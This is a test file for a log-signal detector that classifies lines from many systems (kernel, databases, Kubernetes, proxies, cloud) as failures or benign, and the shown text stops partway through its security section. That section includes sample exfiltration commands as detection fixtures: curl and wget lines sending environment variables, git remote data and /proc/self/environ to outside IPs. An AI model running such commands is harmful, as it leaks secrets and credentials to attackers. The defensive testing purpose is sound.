import { describe, expect, it } from 'vitest';
import type { Evidence } from '../../../../src/domain/evidence.ts';
import {
  detectSignals,
  type LineSignalId,
  type SignalId,
  VOCABULARIES,
} from '../../../../src/operator/decision/signals/index.ts';

/**
 * Each vocabulary family against lines its software really prints, and against the ordinary
 * lines the same software prints all day, which must raise nothing: precision matters as much as
 * recall, since a false dependency failure blocks a restart and a false security signal pages
 * the security team.
 */

/** Lines that quote `${…}` literally (Spring placeholders, Log4Shell probes). */
const DOLLAR = '$';
const NOW = new Date('2024-05-14T12:00:00.000Z');
const ids = (lines: readonly string[]): SignalId[] => {
  const e: Evidence = {
    id: 'E1',
    source: {
      tool: 'fetch_recent_logs',
      subject: 'app-01',
      backend: 'test',
      at: NOW.toISOString(),
    },
    summary: 'lines',
    data: { kind: 'logs', lines: [...lines], truncated: false },
  };
  return detectSignals([e], { thresholdPercent: 90, now: NOW }).map((s) => s.id);
};

type Case = { real: readonly [string, LineSignalId][]; benign: readonly string[] };

const FAMILIES: Record<string, Case> = {
  'generic application and monitoring phrasing': {
    real: [
      ['[CRITICAL] Dependency Unreachable: Search Engine is down', 'dependency_failure'],
      ['[WARN] CPU threshold exceeded 90%', 'resource_exhaustion'],
      ['[CRITICAL] Process hung, not accepting new connections', 'hung_process'],
      ['[ERROR] Failed to connect to payments-api: timeout after 3 attempts', 'dependency_failure'],
      ['[WARN] slow request GET /search?q=boots took 2412ms', 'latency'],
      ['[WARN] p99 latency 2.3s on /checkout (SLO 500ms)', 'latency'],
      ['[ERROR] missing required environment variable STRIPE_WEBHOOK_SECRET', 'config_error'],
      ['[ERROR] failed to parse config /etc/app/app.yaml: unexpected key', 'config_error'],
      ['[INFO] configuration reloaded from /etc/app/app.yaml (3 keys changed)', 'change_in_logs'],
      ['[ERROR] authentication failed for user "svc_reports"', 'auth_failure'],
    ],
    benign: [
      '[INFO] GET /api/cart 200 in 84ms',
      '[INFO] User query executed in 12ms',
      '[INFO] request queued, retry in 30s',
      '[INFO] nightly export finished, duration 3600s',
      '[INFO] config loaded: 42 keys',
      '[DEBUG] connecting to cache at redis-01:6379',
      '[INFO] Health check passed',
      '[WARN] deprecated config key "timeout" used, please rename to "timeout_ms"',
    ],
  },
  'Linux kernel, libc errno, systemd, cgroups': {
    real: [
      ['kernel: Out of memory: Killed process 23114 (java) total-vm:12582912kB', 'out_of_memory'],
      ['kernel: Memory cgroup out of memory: Killed process 881 (node)', 'out_of_memory'],
      ['write /var/lib/docker/overlay2/x: no space left on device', 'disk_full'],
      ['kernel: blk_update_request: I/O error, dev sdb, sector 41129984', 'storage_failure'],
      ['kernel: INFO: task postgres:2231 blocked for more than 120 seconds.', 'hung_process'],
      [
        'systemd[1]: api.service: Main process exited, code=dumped, status=11/SEGV',
        'process_crashed',
      ],
      ["systemd[1]: api.service: Failed with result 'exit-code'.", 'process_crashed'],
      ['systemd[1]: api.service: Start request repeated too quickly.', 'crash_loop'],
      ['nr_periods 12000 nr_throttled 9412 throttled_usec 88213000', 'throttling'],
      ['open /var/lib/app/state.db: permission denied', 'authorization_failure'],
      ['kernel: nf_conntrack: table full, dropping packet', 'resource_exhaustion'],
      ['dial tcp 10.0.4.7:443: connect: no route to host', 'dependency_failure'],
      ['systemd[1]: Reloading nginx.service - A high performance web server...', 'change_in_logs'],
    ],
    benign: [
      'systemd[1]: Started Daily apt download activities.',
      'systemd[1]: api.service: Main process exited, code=exited, status=0/SUCCESS',
      'systemd[1]: api.service: Deactivated successfully.',
      'kernel: EXT4-fs (sda1): mounted filesystem with ordered data mode. Quota mode: none.',
      'nr_periods 12000 nr_throttled 0 throttled_usec 0',
      'CRON[2231]: (root) CMD (run-parts /etc/cron.hourly)',
    ],
  },
  'shells and config-file parsers': {
    real: [
      ["/docker-entrypoint.sh: line 22: syntax error near unexpected token `('", 'config_error'],
      ['/start.sh: line 9: syntax error: unexpected end of file', 'config_error'],
      ['/bin/sh: 1: Syntax error: "(" unexpected', 'config_error'],
      ['/entrypoint.sh: line 3: gunicron: command not found', 'config_error'],
      ['/run.sh: line 12: DATABASE_URL: unbound variable', 'config_error'],
      ['yaml: line 14: mapping values are not allowed in this context', 'config_error'],
      ['exec /usr/local/bin/app: exec format error', 'config_error'],
      ['exec: "uwsgi": executable file not found in $PATH: unknown', 'config_error'],
    ],
    benign: [
      '+ exec gunicorn app:app --bind 0.0.0.0:8000',
      'Running entrypoint script /docker-entrypoint.d/10-listen-on-ipv6.sh',
      '/docker-entrypoint.sh: Configuration complete; ready for start up',
    ],
  },
  'JVM (Java, Kotlin, Scala) and its common libraries': {
    real: [
      [
        'org.apache.tomcat.jdbc.pool.PoolExhaustedException: [dw-3832 - GET /season] Timeout: Pool empty. Unable to fetch a connection in 30 seconds, none available[size:100; busy:100; idle:0; lastwait:30000].',
        'resource_exhaustion',
      ],
      [
        'org.apache.commons.dbcp.SQLNestedException: Cannot get a connection, pool error Timeout waiting for idle object',
        'resource_exhaustion',
      ],
      ['java.lang.OutOfMemoryError: Metaspace', 'out_of_memory'],
      ['java.net.ConnectException: Connection refused (Connection refused)', 'dependency_failure'],
      [
        'com.mysql.cj.jdbc.exceptions.CommunicationsException: Communications link failure',
        'dependency_failure',
      ],
      ['java.net.SocketTimeoutException: Read timed out', 'dependency_failure'],
      ['java.net.UnknownHostException: kafka-0.kafka: Name or service not known', 'dns_failure'],
      [
        'javax.net.ssl.SSLHandshakeException: PKIX path building failed: unable to find valid certification path',
        'tls_failure',
      ],
      [
        'WARN o.a.c.c.StuckThreadDetectionValve - Thread [http-nio-8080-exec-7] has been active for [62,003] milliseconds and may be stuck',
        'hung_process',
      ],
      [
        `Could not resolve placeholder 'payments.api.url' in value "${DOLLAR}{payments.api.url}"`,
        'config_error',
      ],
      ['# A fatal error has been detected by the Java Runtime Environment:', 'process_crashed'],
      [
        'java.util.concurrent.RejectedExecutionException: Task rejected from pool-3',
        'resource_exhaustion',
      ],
    ],
    benign: [
      'INFO  [main] o.s.b.w.e.tomcat.TomcatWebServer - Tomcat started on port(s): 8080 (http)',
      'INFO  [main] c.z.h.HikariDataSource - HikariPool-1 - Start completed.',
      'INFO  [main] o.s.b.StartupInfoLogger - Started Application in 14.2 seconds',
      '[GC (Allocation Failure) [PSYoungGen: 65536K->10720K(76288K)] 65536K->10736K(251392K), 0.0123 secs]',
    ],
  },
  'Python (CPython, requests/urllib3, SQLAlchemy, gunicorn, uWSGI, Django)': {
    real: [
      ['socket.gaierror: [Errno -2] Name or service not known', 'dns_failure'],
      ['socket.gaierror: [Errno -3] Temporary failure in name resolution', 'dns_failure'],
      [
        "requests.exceptions.ConnectionError: HTTPConnectionPool(host='inventory', port=80): Max retries exceeded with url: /items (Caused by NewConnectionError('Failed to establish a new connection: [Errno 111] Connection refused'))",
        'dependency_failure',
      ],
      [
        'psycopg2.OperationalError: server closed the connection unexpectedly',
        'dependency_failure',
      ],
      [
        'sqlalchemy.exc.TimeoutError: QueuePool limit of size 5 overflow 10 reached, connection timed out, timeout 30',
        'resource_exhaustion',
      ],
      [
        '[2024-05-14 10:03:44 +0000] [1] [ERROR] Worker (pid:812) was sent SIGKILL! Perhaps out of memory?',
        'out_of_memory',
      ],
      ['*** HARAKIRI ON WORKER 3 (pid: 4411, try: 1) ***', 'hung_process'],
      ["KeyError: 'tier_multiplier'", 'application_errors'],
      ['django.core.exceptions.ImproperlyConfigured: SECRET_KEY must not be empty', 'config_error'],
    ],
    benign: [
      '[2024-05-14 10:01:12 +0000] [812] [INFO] Booting worker with pid: 812',
      'INFO:     Application startup complete.',
      'INFO:     10.2.3.4:51234 - "GET /v2/price?sku=8812 HTTP/1.1" 200 OK',
      'celery@worker-1 ready.',
    ],
  },
  'Node.js': {
    real: [
      ['Error: getaddrinfo ENOTFOUND rabbitmq.internal', 'dns_failure'],
      ['Error: connect ECONNREFUSED 127.0.0.1:6379', 'dependency_failure'],
      ['Error: connect ETIMEDOUT 10.0.3.12:5432', 'dependency_failure'],
      [
        'FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory',
        'out_of_memory',
      ],
      ['Error: certificate has expired (code: CERT_HAS_EXPIRED)', 'tls_failure'],
      [
        "Error [ERR_MODULE_NOT_FOUND]: Cannot find package 'zod' imported from /app/dist/index.js",
        'application_errors',
      ],
    ],
    benign: [
      'Server listening on http://0.0.0.0:3000',
      '> app@1.4.2 start',
      '{"level":30,"msg":"request completed","res":{"statusCode":200},"responseTime":12}',
    ],
  },
  Go: {
    real: [
      ['dial tcp 10.0.3.12:5432: i/o timeout', 'dependency_failure'],
      ['dial tcp: lookup orders-db on 10.96.0.10:53: no such host', 'dns_failure'],
      ['dial tcp: lookup api.partner.example on 10.96.0.10:53: server misbehaving', 'dns_failure'],
      [
        'panic: runtime error: invalid memory address or nil pointer dereference',
        'application_errors',
      ],
      ['fatal error: runtime: out of memory', 'out_of_memory'],
      [
        'Get "https://vault:8200/v1/sys/health": x509: certificate signed by unknown authority',
        'tls_failure',
      ],
      ['remote error: tls: bad certificate', 'tls_failure'],
    ],
    benign: [
      'level=info msg="Starting server" addr=:8080',
      'time="2024-05-14T12:30:00Z" level=info msg="lookup cache warmed" entries=1204',
      'goroutine profile: total 42',
    ],
  },
  '.NET': {
    real: [
      [
        'System.Net.Sockets.SocketException (10061): No connection could be made because the target machine actively refused it.',
        'dependency_failure',
      ],
      [
        'Microsoft.Data.SqlClient.SqlException (0x80131904): A network-related or instance-specific error occurred while establishing a connection to SQL Server.',
        'dependency_failure',
      ],
      [
        "Microsoft.Data.SqlClient.SqlException (0x80131904): Login failed for user 'orders_app'.",
        'auth_failure',
      ],
      [
        'System.InvalidOperationException: Timeout expired.  The timeout period elapsed prior to obtaining a connection from the pool.',
        'resource_exhaustion',
      ],
      ['System.Net.Sockets.SocketException (11001): No such host is known.', 'dns_failure'],
      [
        'System.Security.Authentication.AuthenticationException: The remote certificate is invalid because of errors in the certificate chain: NotTimeValid',
        'tls_failure',
      ],
      [
        "System.UnauthorizedAccessException: Access to the path '/app/data/cache' is denied.",
        'authorization_failure',
      ],
    ],
    benign: [
      'info: Microsoft.Hosting.Lifetime[14] Now listening on: http://[::]:8080',
      'info: Microsoft.Hosting.Lifetime[0] Application started. Press Ctrl+C to shut down.',
    ],
  },
  'gRPC status codes (and Google APIs, which share them)': {
    real: [
      [
        'rpc error: code = Unavailable desc = connection error: desc = "transport: Error while dialing"',
        'dependency_failure',
      ],
      [
        'rpc error: code = PermissionDenied desc = caller lacks spanner.sessions.create',
        'authorization_failure',
      ],
      [
        'google.api_core.exceptions.ResourceExhausted: 429 RESOURCE_EXHAUSTED: Quota exceeded',
        'throttling',
      ],
    ],
    benign: ['rpc call /orders.v1.Orders/Get completed code = OK in 3ms'],
  },
  PostgreSQL: {
    real: [
      ['PG::NumericValueOutOfRange: ERROR:  integer out of range', 'data_integrity'],
      [
        'ERROR:  nextval: reached maximum value of sequence "events_id_seq" (2147483647)',
        'data_integrity',
      ],
      ['FATAL:  sorry, too many clients already', 'resource_exhaustion'],
      [
        'FATAL:  remaining connection slots are reserved for non-replication superuser connections',
        'resource_exhaustion',
      ],
      [
        'psql: error: connection to server at "orders-db" (10.0.3.12), port 5432 failed: Connection refused',
        'dependency_failure',
      ],
      ['FATAL:  the database system is in recovery mode', 'dependency_failure'],
      ['LOG:  duration: 8211.402 ms  execute <unnamed>: SELECT * FROM orders WHERE', 'latency'],
      ['ERROR:  canceling statement due to statement timeout', 'latency'],
      ['ERROR:  permission denied for table invoices', 'authorization_failure'],
      [
        'WARNING:  database "orders" must be vacuumed within 9763852 transactions',
        'data_integrity',
      ],
      [
        'LOG:  configuration file "/etc/postgresql/16/main/postgresql.conf" contains errors; unaffected changes were applied',
        'config_error',
      ],
      ['LOG:  received SIGHUP, reloading configuration files', 'change_in_logs'],
      [
        'FATAL:  no pg_hba.conf entry for host "10.0.9.4", user "app", database "orders"',
        'auth_failure',
      ],
    ],
    benign: [
      '2024-05-14 11:02:11.412 UTC [2231] LOG:  checkpoint starting: time',
      '2024-05-14 11:02:41.118 UTC [2231] LOG:  checkpoint complete: wrote 1204 buffers (7.3%)',
      'LOG:  database system is ready to accept connections',
      'LOG:  duration: 12.402 ms  statement: SELECT 1',
      'LOG:  automatic vacuum of table "orders.public.events": index scans: 1',
      '2024-05-14 10:00:01 UTC [881] ERROR:  duplicate key value violates unique constraint "users_email_key"',
      'LOG:  could not receive data from client: Connection reset by peer',
    ],
  },
  'MySQL and MariaDB': {
    real: [
      ["ERROR 1264 (22003): Out of range value for column 'id' at row 1", 'data_integrity'],
      [
        '2021-11-27T14:07:13.414Z 0 [ERROR] [MY-012872] [InnoDB] Semaphore wait has lasted > 600 seconds. We intentionally crash the server because it appears to be hung.',
        'process_crashed',
      ],
      [
        '2021-11-27T14:07:13.415Z 0 [ERROR] [MY-013183] [InnoDB] Assertion failure: srv0srv.cc:1907 thread 140380',
        'process_crashed',
      ],
      ['ERROR 1040 (08004): Too many connections', 'resource_exhaustion'],
      [
        "ERROR 2003 (HY000): Can't connect to MySQL server on 'db-01:3306' (111)",
        'dependency_failure',
      ],
      ['ERROR 2013 (HY000): Lost connection to MySQL server during query', 'dependency_failure'],
      [
        "ERROR 1142 (42000): SELECT command denied to user 'reporter'@'10.0.0.5' for table 'salaries'",
        'authorization_failure',
      ],
      ['ERROR 1205 (HY000): Lock wait timeout exceeded; try restarting transaction', 'latency'],
      [
        '# Query_time: 12.480317  Lock_time: 0.000112 Rows_sent: 1  Rows_examined: 4412880',
        'latency',
      ],
      ["[ERROR] [MY-000067] [Server] unknown variable 'query_cache_size=0'.", 'config_error'],
      ['Seconds_Behind_Source: 1840', 'data_integrity'],
    ],
    benign: [
      "[Warning] [MY-010055] [Server] IP address '10.0.0.5' could not be resolved: Name or service not known",
      "[System] [MY-010931] [Server] /usr/sbin/mysqld: ready for connections. Version: '8.0.36'",
      '# Query_time: 0.012480  Lock_time: 0.000012 Rows_sent: 1  Rows_examined: 1',
      'Seconds_Behind_Source: 0',
      "[Note] Aborted connection 12 to db: 'shop' user: 'app' host: '10.0.0.5' (Got timeout reading communication packets)",
    ],
  },
  Redis: {
    real: [
      ["OOM command not allowed when used memory > 'maxmemory'.", 'throttling'],
      ['ERR max number of clients reached', 'resource_exhaustion'],
      [
        'MISCONF Redis is configured to save RDB snapshots, but it is currently not able to persist on disk.',
        'storage_failure',
      ],
      ['LOADING Redis is loading the dataset in memory', 'dependency_failure'],
      ['NOAUTH Authentication required.', 'auth_failure'],
      ["NOPERM User app has no permissions to run the 'flushall' command", 'authorization_failure'],
      ['*** FATAL CONFIG FILE ERROR (Redis 7.2.4) ***', 'config_error'],
    ],
    benign: [
      '1:M 14 May 2024 20:11:02.118 * 10000 changes in 60 seconds. Saving...',
      '1:M 14 May 2024 20:11:02.200 * Background saving started by pid 88',
      '1:M 14 May 2024 20:11:03.001 * DB saved on disk',
      '1:M 14 May 2024 20:10:00.000 * Ready to accept connections tcp',
      '1:M 14 May 2024 20:10:00.000 # WARNING overcommit_memory is set to 0! Background save may fail under low memory condition.',
    ],
  },
  MongoDB: {
    real: [
      ['MongoServerSelectionError: connect ECONNREFUSED 10.0.2.4:27017', 'dependency_failure'],
      [
        'MongoServerError: not authorized on admin to execute command { listDatabases: 1 }',
        'authorization_failure',
      ],
      [
        '{"t":{"$date":"2024-05-14T10:00:00Z"},"s":"I","c":"COMMAND","msg":"Slow query","attr":{"durationMillis":4312}}',
        'latency',
      ],
    ],
    benign: [
      '{"t":{"$date":"2024-05-14T10:00:00Z"},"s":"I","c":"NETWORK","msg":"Connection ended","attr":{"durationMillis":4312}}',
      '{"t":{"$date":"2024-05-14T10:00:00Z"},"s":"I","c":"COMMAND","msg":"Slow query","attr":{"durationMillis":120}}',
    ],
  },
  'Elasticsearch and OpenSearch': {
    real: [
      [
        '[WARN ][o.e.c.r.a.DiskThresholdMonitor] flood stage disk watermark [95%] exceeded on [es-data-1]',
        'disk_full',
      ],
      [
        'CircuitBreakingException[[parent] Data too large, data for [<http_request>] would be [8.1gb]]',
        'out_of_memory',
      ],
      [
        'EsRejectedExecutionException[rejected execution of coordinating operation]',
        'resource_exhaustion',
      ],
      [
        'NoNodeAvailableException[None of the configured nodes are available: [{#transport#-1}{es-01}]]',
        'dependency_failure',
      ],
      [
        '[2024-05-14T10:00:00,000][WARN ][index.search.slowlog.query] [es-data-1] [products][2] took[5.2s], took_millis[5203]',
        'latency',
      ],
      [
        'security_exception: action [indices:data/write/bulk] is unauthorized for user [ingest]',
        'authorization_failure',
      ],
    ],
    benign: [
      '[INFO ][o.e.c.r.a.AllocationService] Cluster health status changed from [YELLOW] to [GREEN] (reason: [shards started]).',
      '[INFO ][o.e.n.Node] started',
      '[INFO ][o.e.m.j.JvmGcMonitorService] [gc][young][12][3] duration [12ms], collections [1]/[1s]',
    ],
  },
  'Apache Kafka (Java client, brokers, librdkafka)': {
    real: [
      [
        '[Producer clientId=orders] Connection to node -1 (kafka-0/10.0.5.4:9092) could not be established. Broker may not be available.',
        'dependency_failure',
      ],
      [
        'org.apache.kafka.common.errors.TimeoutException: Topic orders not present in metadata after 60000 ms.',
        'dependency_failure',
      ],
      [
        '%3|1715680000.123|FAIL|rdkafka#producer-1| [thrd:kafka-0:9092/0]: 1/1 brokers are down',
        'dependency_failure',
      ],
      [
        'org.apache.kafka.common.errors.NotEnoughReplicasException: Messages are rejected since there are fewer in-sync replicas than required.',
        'data_integrity',
      ],
      [
        'org.apache.kafka.common.errors.TopicAuthorizationException: Not authorized to access topics: [payments]',
        'authorization_failure',
      ],
      [
        'consumer poll timeout has expired. This means the time between subsequent calls to poll() was longer than the configured max.poll.interval.ms',
        'latency',
      ],
    ],
    benign: [
      '[Consumer clientId=c1, groupId=orders] Successfully joined group with generation Generation{generationId=12}',
      '[Consumer clientId=c1, groupId=orders] Setting newly assigned partitions: orders-0, orders-1',
      'Kafka version: 3.6.0',
    ],
  },
  RabbitMQ: {
    real: [
      ['ACCESS_REFUSED - Login was refused using authentication mechanism PLAIN.', 'auth_failure'],
      [
        "operation basic.publish caused a channel exception access_refused: access to exchange 'orders' in vhost '/' refused for user 'app'",
        'authorization_failure',
      ],
      [
        'disk resource limit alarm set on node rabbit@mq-01. Publishers will be blocked until this alarm clears',
        'disk_full',
      ],
      ['memory resource limit alarm set on node rabbit@mq-01.', 'throttling'],
      [
        'pika.exceptions.AMQPConnectionError: Connection to 10.0.6.2:5672 failed',
        'dependency_failure',
      ],
    ],
    benign: [
      'accepting AMQP connection <0.912.0> (10.0.0.5:41234 -> 10.0.6.2:5672)',
      "connection <0.912.0> (10.0.0.5:41234 -> 10.0.6.2:5672): user 'app' authenticated and granted access to vhost '/'",
      'Server startup complete; 4 plugins started.',
    ],
  },
  'nginx and ingress-nginx': {
    real: [
      [
        '[error] 31#31: *88 no live upstreams while connecting to upstream, client: 10.0.0.1',
        'dependency_failure',
      ],
      [
        '[error] 31#31: *88 upstream prematurely closed connection while reading response header from upstream',
        'dependency_failure',
      ],
      [
        '[error] 31#31: *88 orders.internal could not be resolved (3: Host not found)',
        'dns_failure',
      ],
      [
        'nginx: [emerg] invalid number of arguments in "proxy_pass" directive in /etc/nginx/conf.d/app.conf:18',
        'config_error',
      ],
      ['nginx: configuration file /etc/nginx/nginx.conf test failed', 'config_error'],
      ['[notice] 1#1: signal 1 (SIGHUP) received from 4411, reconfiguring', 'change_in_logs'],
      ['Backend successfully reloaded.', 'change_in_logs'],
    ],
    benign: [
      '2024/05/14 12:00:01 [notice] 1#1: start worker processes',
      '2024/05/14 12:00:01 [notice] 1#1: using the "epoll" event method',
      '2024/05/14 12:00:05 [info] 31#31: *12 client closed connection while waiting for request, client: 10.0.0.1',
      '2024/05/14 12:00:05 [error] 31#31: *5 open() "/usr/share/nginx/html/favicon.ico" failed (2: No such file or directory)',
      'nginx: configuration file /etc/nginx/nginx.conf test is successful',
    ],
  },
  'Envoy and Envoy-based meshes': {
    real: [
      [
        'upstream connect error or disconnect/reset before headers. reset reason: connection failure',
        'dependency_failure',
      ],
      ['no healthy upstream', 'dependency_failure'],
      ['upstream request timeout', 'dependency_failure'],
      [
        '[2024-05-14T12:00:00.000Z] "GET /api/orders HTTP/1.1" 503 UH 0 19 0 - "10.0.0.1" "curl/8.5" "1b2c" "orders" "-"',
        'dependency_failure',
      ],
      [
        '[2024-05-14T12:00:00.000Z] "GET /api/v3/orders HTTP/1.1" 404 NR 0 0 0 - "10.0.0.1" "curl/8.5" "1b2c" "orders" "-"',
        'config_error',
      ],
    ],
    benign: [
      '[2024-05-14T12:00:00.000Z] "GET /api/orders HTTP/1.1" 200 - 0 512 12 11 "10.0.0.1" "curl/8.5" "1b2c" "orders" "10.0.5.21:8080"',
      '[warning][config] gRPC config stream to xds-grpc closed since 1785s ago: 13, ',
      '[info][upstream] cds: add 3 cluster(s), remove 0 cluster(s)',
    ],
  },
  HAProxy: {
    real: [
      [
        '[WARNING] (8) : Server be_app/app1 is DOWN, reason: Layer4 connection problem, info: "Connection refused"',
        'dependency_failure',
      ],
      ["[ALERT] (8) : backend 'be_app' has no server available!", 'dependency_failure'],
      [
        "[ALERT] (1) : config : parsing [/usr/local/etc/haproxy/haproxy.cfg:31] : unknown keyword 'timeout-conect' in 'defaults' section",
        'config_error',
      ],
      ['[NOTICE] (1) : Reloading HAProxy', 'change_in_logs'],
    ],
    benign: [
      '[WARNING] (8) : Server be_app/app1 is UP, reason: Layer7 check passed, code: 200',
      'Proxy fe_http started.',
      '10.0.0.1:51234 [14/May/2024:12:00:00.000] fe_http be_app/app1 0/0/1/12/13 200 512 - - ---- 1/1/0/0/0 0/0 "GET / HTTP/1.1"',
    ],
  },
  'resolvers (glibc, dig, nslookup, CoreDNS, systemd-resolved) and curl': {
    real: [
      ['curl: (6) Could not resolve host: api.partner.example', 'dns_failure'],
      ["** server can't find orders.internal: NXDOMAIN", 'dns_failure'],
      [';; connection timed out; no servers could be reached', 'dns_failure'],
      [
        '[ERROR] plugin/errors: 2 api.partner.example. A: read udp 10.244.0.5:43211->8.8.8.8:53: i/o timeout',
        'dns_failure',
      ],
      [
        "curl: (7) Failed to connect to orders port 8080 after 3 ms: Couldn't connect to server",
        'dependency_failure',
      ],
      [
        'curl: (28) Operation timed out after 10001 milliseconds with 0 bytes received',
        'dependency_failure',
      ],
      ['curl: (60) SSL certificate problem: certificate has expired', 'tls_failure'],
    ],
    benign: [
      ';; ->>HEADER<<- opcode: QUERY, status: NOERROR, id: 4411',
      '[INFO] 10.244.0.5:43211 - 4411 "A IN orders.svc.cluster.local. udp 54 false 512" NXDOMAIN qr,aa,rd 147 0.000157s',
      '[INFO] plugin/reload: Running configuration SHA512 = 8f2c',
      '  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current',
    ],
  },
  'TLS libraries (OpenSSL, BoringSSL, Python ssl) and certificate monitors': {
    real: [
      ['SSL routines:tls_process_server_certificate:certificate verify failed', 'tls_failure'],
      ['verify error:num=20:unable to get local issuer certificate', 'tls_failure'],
      [
        'ssl.SSLCertVerificationError: [SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: self signed certificate in certificate chain',
        'tls_failure',
      ],
      ['error:0A000410:SSL routines::sslv3 alert handshake failure', 'tls_failure'],
      ['[WARN] certificate for api.example.com expires in 5 days', 'tls_failure'],
    ],
    benign: [
      '[INFO] certificate renewed, valid for 90 days',
      'cert-manager: Certificate is up to date and has not expired',
      '[INFO] certificate for api.example.com expires in 61 days',
      'SSL-Session: Protocol  : TLSv1.3',
    ],
  },
  'Kubernetes (kubelet, scheduler, controllers, kubectl) and container runtimes': {
    real: [
      [
        'Warning  BackOff  kubelet  Back-off restarting failed container api in pod api-7d9f8c-x2x9q',
        'crash_loop',
      ],
      ['api-7d9f8c-x2x9q   0/1     CrashLoopBackOff   14 (2m ago)   1h', 'crash_loop'],
      [
        'Warning  Unhealthy  kubelet  Liveness probe failed: Get "http://10.244.1.7:8080/healthz": dial tcp 10.244.1.7:8080: connect: connection refused',
        'probe_failure',
      ],
      ['Warning  Failed  kubelet  Error: ImagePullBackOff', 'image_pull_failure'],
      ['Warning  Failed  kubelet  Error: CreateContainerConfigError', 'config_error'],
      [
        'Warning  FailedMount  kubelet  MountVolume.SetUp failed for volume "config" : configmap "app-config" not found',
        'config_error',
      ],
      [
        'Warning  FailedAttachVolume  attachdetach-controller  Multi-Attach error for volume "pvc-8812" Volume is already exclusively attached to one node',
        'storage_failure',
      ],
      [
        'Warning  FailedScheduling  default-scheduler  0/6 nodes are available: 3 node(s) had untolerated taint {dedicated: gpu}, 3 Insufficient cpu.',
        'scheduling_failure',
      ],
      ['Warning  Evicted  kubelet  The node had condition: [DiskPressure].', 'node_pressure'],
      ['Last State:     Terminated   Reason: OOMKilled   Exit Code: 137', 'out_of_memory'],
      [
        'Error from server (Forbidden): pods is forbidden: User "system:serviceaccount:ci:runner" cannot list resource "pods" in API group "" in the namespace "prod"',
        'authorization_failure',
      ],
      [
        'Normal  ScalingReplicaSet  deployment-controller  Scaled up replica set api-6b7c9d to 3',
        'change_in_logs',
      ],
    ],
    benign: [
      'Normal  Scheduled  default-scheduler  Successfully assigned prod/api-7d9f8c-x2x9q to node-3',
      'Normal  Pulled  kubelet  Container image "registry.example.com/api:v2.3.8" already present on machine',
      'Normal  Created  kubelet  Created container api',
      'Normal  Started  kubelet  Started container api',
      'Normal  Killing  kubelet  Stopping container api',
      'MemoryPressure   False   Tue, 14 May 2024 10:00:00 +0000   KubeletHasSufficientMemory   kubelet has sufficient memory available',
      'Restart Count:  0',
      'Last State:     Terminated   Reason: Completed   Exit Code: 0',
      'Readiness:  http-get http://:8080/ready delay=0s timeout=1s period=10s #success=1 #failure=3',
      '[INFO] Evicted 0 keys in the last minute',
    ],
  },
  'Prometheus alerts (kubernetes-mixin, node-exporter mixin)': {
    real: [
      ['[FIRING:1] KubePodCrashLooping prod/api-7d9f8c-x2x9q (api)', 'crash_loop'],
      ['alertname=CPUThrottlingHigh namespace=prod pod=api-7d9f8c container=api', 'throttling'],
      ['[FIRING:1] NodeFilesystemAlmostOutOfSpace node-3 /var/lib/docker', 'disk_full'],
      ['[FIRING:2] KubePodNotReady prod/api-7d9f8c-x2x9q', 'probe_failure'],
    ],
    benign: [
      '[RESOLVED] KubePodCrashLooping prod/api-7d9f8c-x2x9q (api)',
      '[FIRING:1] Watchdog (An alert that should always be firing)',
    ],
  },
  'cloud providers (AWS CloudWatch and SDKs, Azure, Google Cloud)': {
    real: [
      [
        'ALARM: "prod-alb-UnHealthyHostCount" in US East (N. Virginia): MetricName UnHealthyHostCount > 0',
        'probe_failure',
      ],
      [
        'ALARM: "prod-rds-FreeStorageSpace-low" in EU (Ireland) - MetricName FreeStorageSpace',
        'disk_full',
      ],
      [
        'ALARM: "api-t3-CPUCreditBalance-low": CPUCreditBalance < 10 for 3 datapoints',
        'throttling',
      ],
      [
        'botocore.exceptions.ClientError: An error occurred (ProvisionedThroughputExceededException) when calling the PutItem operation',
        'throttling',
      ],
      [
        'User: arn:aws:sts::123456789012:assumed-role/app/i-0abc is not authorized to perform: s3:PutObject on resource',
        'authorization_failure',
      ],
      [
        'An error occurred (ExpiredTokenException) when calling the GetCallerIdentity operation: The security token included in the request is expired',
        'auth_failure',
      ],
      ['AADSTS7000215: Invalid client secret provided.', 'auth_failure'],
    ],
    benign: [
      'OK: "prod-alb-UnHealthyHostCount" in US East (N. Virginia)',
      'Alarm "prod-rds-FreeStorageSpace-low" updated from ALARM to OK',
      'INFO: uploaded s3://backups/db-2024-05-14.gz (812 MB)',
    ],
  },
  'HTTP status wording and access logs': {
    real: [
      [
        'requests.exceptions.HTTPError: 403 Client Error: Forbidden for url: https://api.example.com/v1/orders',
        'authorization_failure',
      ],
      ['[ERROR] partner API returned 429 Too Many Requests (retry after 30s)', 'throttling'],
      ['[ERROR] GitHub API rate limit exceeded for installation 8812', 'throttling'],
      ['[ERROR] upstream answered 502 Bad Gateway', 'dependency_failure'],
      ['[ERROR] POST /checkout returned HTTP 500', 'application_errors'],
      ['GET /api/products 200 2412.331 ms - 1302', 'latency'],
      ['[ERROR] twilio: HTTP 401 Unauthorized - Authenticate (code 20003)', 'auth_failure'],
    ],
    benign: [
      '10.1.2.3 - - [14/May/2024:19:01:02 +0000] "GET /products HTTP/1.1" 200 18211 "-" "Mozilla/5.0"',
      '10.1.2.3 - - [14/May/2024:19:01:02 +0000] "GET /admin HTTP/1.1" 403 153 "-" "Mozilla/5.0"',
      '10.1.2.3 - - [14/May/2024:19:01:02 +0000] "POST /api/login HTTP/1.1" 429 0 "-" "python-requests/2.31"',
      '[INFO] GET /api/cart 200 84ms',
    ],
  },
  'security: sshd/PAM, fail2ban, Falco, GuardDuty, ModSecurity, auditd, exploit strings': {
    real: [
      [
        `curl -sm 0.5 -d "${DOLLAR}(git remote -v)<<<<<< ENV ${DOLLAR}(env)" http://104.248.94.23/upload/v2 || true`,
        'suspicious_activity',
      ],
      ['env | curl -s -X POST --data-binary @- https://203.0.113.9/c', 'suspicious_activity'],
      ['wget --post-file=/proc/self/environ http://203.0.113.9/', 'suspicious_activity'],
      [
        'sshd[22811]: Failed password for invalid user admin from 45.155.205.3 port 51234 ssh2',
        'suspicious_activity',
      ],
      [
        'sshd[22815]: error: maximum authentication attempts exceeded for root from 45.155.205.3 port 51262 ssh2 [preauth]',
        'suspicious_activity',
      ],
      [
        '2024-05-14 03:12:44,118 fail2ban.actions [812]: NOTICE [sshd] Ban 45.155.205.3',
        'suspicious_activity',
      ],
      [
        'Warning A shell was spawned in a container with an attached terminal (user=root container=api-7d9f)',
        'suspicious_activity',
      ],
      [
        'GuardDuty finding: UnauthorizedAccess:EC2/SSHBruteForce on i-0abc123',
